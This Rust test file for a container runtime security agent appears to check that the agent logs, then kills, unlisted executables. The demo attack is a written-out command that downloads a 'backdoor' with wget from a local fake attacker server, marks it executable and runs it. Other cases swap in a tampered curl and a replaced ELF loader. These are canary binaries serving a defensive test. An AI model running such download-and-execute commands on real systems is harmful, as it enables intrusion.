//! The demo's steps 4 to 6 and 8 on a container of the demo's image: the attack seen, then refused; the probe; the agent's death.

use std::{
    io::{BufRead as _, BufReader, Write as _},
    net::{TcpListener, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use lattice_policy::{Mode, Origin, Role};
use nix::sys::signal::Signal;

use super::{
    container::{UNLISTED, foreign_loader, replace},
    content::NOT_IN_IMAGE,
};
use crate::guest::{
    container::{Container, Output, SERVER, loader, prepare},
    host::{host, is_tier_1},
    policy::Policy,
    trial::{Case, Cause, Expected, Phase, Trial, cause},
};

const ORIGIN: Cause = cause("origin", "target", "unlisted-in-image");
/// In the padding of an ELF file's identification, which nobody reads.
const CHANGED_BYTE: usize = 15;

/// What is derived from the demo's image and a service whose exec probe is `sh -c "curl …"`.
fn with_exec_probe(mode: Mode) -> Result<Policy> {
    with_http_probe(mode)?
        .allow_image("/usr/bin/dash", &[Role::Target], Origin::ExecSession)?
        .allow_image("/usr/bin/curl", &[Role::Target], Origin::ExecSession)
}

/// The same once the probe is an HTTP one.
fn with_http_probe(mode: Mode) -> Result<Policy> {
    Policy::new(mode)
        .allow_image(SERVER, &[Role::Target], Origin::Any)?
        .allow_image(loader()?, &[Role::ElfInterpreter], Origin::Any)
}

pub(super) const CASES: &[Case] = &[
    Case {
        name: "the_demos_attack_is_noted_then_dies_and_the_probe_goes_on",
        prepare: |place| prepare(place).and_then(|()| with_exec_probe(Mode::Monitor)),
        run: play,
    },
    Case {
        name: "the_demos_replaced_elf_interpreter_is_noted_then_does_not_run",
        prepare: |place| prepare(place).and_then(|()| with_exec_probe(Mode::Monitor)),
        run: |trial| {
            let container = Container::start(trial)?;
            let canary = host().layer_file("/usr/bin/evil-loader").context("no evil loader")?;
            container.upload(loader()?, &std::fs::read(canary)?)?;
            let session = ["/bin/sh", "-c", "exit 3"];
            container.session(trial, &session, Expected::Noted(foreign_loader()))?;
            if !trial.is_control() {
                replace(trial, &with_exec_probe(Mode::Enforce)?)?;
            }
            container.session(trial, &session, Expected::Killed(foreign_loader()))?;
            ensure!(container.healthz()? == "ok\n", "the server does not answer");
            container.end()
        },
    },
];

fn play(trial: &mut Trial<'_>) -> Result<()> {
    let container = Container::start(trial)?;
    let attacker = Attacker::start(std::fs::read(host().layer_file("/usr/bin/bad").context("no canary")?)?)?;
    let attack = format!(
        "wget -q http://{0}/backdoor -O /tmp/backdoor && chmod +x /tmp/backdoor && /tmp/backdoor",
        attacker.address
    );
    let attack = ["/bin/sh", "-c", &attack];
    let probe = format!("curl -fs http://{}/healthz", container.listen);
    let probe_command = ["/bin/sh", "-c", &probe];

    // Step 4: monitor.
    let output = container.in_session(trial, &attack)?;
    ensure!(
        output.code == 0 && output.is_marked() && attacker.downloads() == 1,
        "monitor: the attack: {output:?}"
    );
    for cause in [UNLISTED, UNLISTED, NOT_IN_IMAGE] {
        trial.owed(Expected::Noted(cause))?;
    }
    container.upload("/tmp/curl", &changed_curl()?)?;
    let changed = ["/tmp/curl", "--version"];
    let output = container.in_session(trial, &changed)?;
    ensure!(
        output.code == 0 && output.stdout.starts_with("curl "),
        "monitor: the changed copy: {output:?}"
    );
    trial.owed(Expected::Noted(NOT_IN_IMAGE))?;
    let output = container.by_application(trial, &probe)?;
    ensure!(
        output.code == 0 && output.stdout == "ok\n",
        "monitor: the application's shell: {output:?}"
    );
    // The shell, then what it starts.
    trial.owed(Expected::Noted(ORIGIN))?;
    trial.owed(Expected::Noted(ORIGIN))?;
    if trial.phase == Phase::Control {
        return container.end();
    }

    // Step 5: enforce, live.
    replace(trial, &with_exec_probe(Mode::Enforce)?)?;
    let output = container.in_session(trial, &attack)?;
    died("the attack", &output)?;
    ensure!(attacker.downloads() == 1, "enforce: wget reached the attacker");
    let event = owed_event(trial, UNLISTED)?;
    ensure!(event.ends_with("wget"), "enforce: the attack died at {event}");
    died("the changed copy", &container.in_session(trial, &changed)?)?;
    owed_event(trial, NOT_IN_IMAGE)?;
    let as_command = [loader()?, "/usr/bin/wget", "--version"];
    died("the loader as a command", &container.in_session(trial, &as_command)?)?;
    owed_event(trial, cause("role", "target", "unlisted-in-image"))?;
    answers(&container.in_session(trial, &probe_command)?)?;
    died("the application's shell", &container.by_application(trial, &probe)?)?;
    owed_event(trial, ORIGIN)?;
    ensure!(container.healthz()? == "ok\n", "enforce: the server does not answer");

    // Step 6: another probe.
    replace(trial, &with_http_probe(Mode::Enforce)?)?;
    died(
        "the former probe's shell",
        &container.in_session(trial, &probe_command)?,
    )?;
    owed_event(trial, UNLISTED)?;
    let curl = format!("http://{}/healthz", container.listen);
    died("curl", &container.in_session(trial, &["/usr/bin/curl", "-fs", &curl])?)?;
    owed_event(trial, UNLISTED)?;
    ensure!(container.healthz()? == "ok\n", "HTTP probe: the server does not answer");

    // Step 8: the agent dies, and comes back.
    let url = format!("http://{}/backdoor", attacker.address);
    let wget = ["/usr/bin/wget", "-q", &url, "-O", "/tmp/backdoor"];
    trial.node.end(Signal::SIGKILL)?;
    died("wget without an agent", &container.in_session(trial, &wget)?)?;
    trial.node.start()?;
    let event = owed_event(trial, UNLISTED)?;
    ensure!(event.ends_with("wget"), "the event of the downtime names {event}");
    died("wget once the agent is back", &container.in_session(trial, &wget)?)?;
    owed_event(trial, UNLISTED)?;
    ensure!(attacker.downloads() == 1, "wget reached the attacker");
    ensure!(container.healthz()? == "ok\n", "the server does not answer at the end");
    container.end()
}

fn died(what: &str, output: &Output) -> Result<()> {
    ensure!(output.code == 137 && !output.is_marked(), "{what}: {output:?}");
    Ok(())
}

fn answers(output: &Output) -> Result<()> {
    ensure!(
        output.code == 0 && output.stdout == "ok\n",
        "the probe's own command: {output:?}"
    );
    Ok(())
}

/// Waits for the event of a kill, and returns the path that it names.
fn owed_event(trial: &mut Trial<'_>, cause: Cause) -> Result<String> {
    let action = if is_tier_1() { "deny+kill" } else { "kill" };
    let event = trial.event(cause, action)?;
    Ok(if event.path.is_empty() {
        event.path_as_passed
    } else {
        event.path
    })
}

fn changed_curl() -> Result<Vec<u8>> {
    let mut bytes = std::fs::read(host().layer_file("/usr/bin/curl").context("the image has no curl")?)?;
    bytes[CHANGED_BYTE] ^= 1;
    Ok(bytes)
}

/// A web server that has the backdoor, and counts who asks.
struct Attacker {
    address: String,
    downloads: Arc<AtomicU64>,
}

impl Attacker {
    fn start(backdoor: Vec<u8>) -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let address = listener.local_addr()?.to_string();
        let downloads = Arc::new(AtomicU64::new(0));
        let counter = Arc::clone(&downloads);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counter.fetch_add(1, Ordering::Relaxed);
                // Whoever hung up was killed.
                let _ = serve(stream, &backdoor);
            }
        });
        Ok(Self { address, downloads })
    }

    fn downloads(&self) -> u64 {
        self.downloads.load(Ordering::Relaxed)
    }
}

fn serve(mut stream: TcpStream, content: &[u8]) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    while reader.read_line(&mut line)? > 2 {
        line.clear();
    }
    write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", content.len())?;
    stream.write_all(content)
}
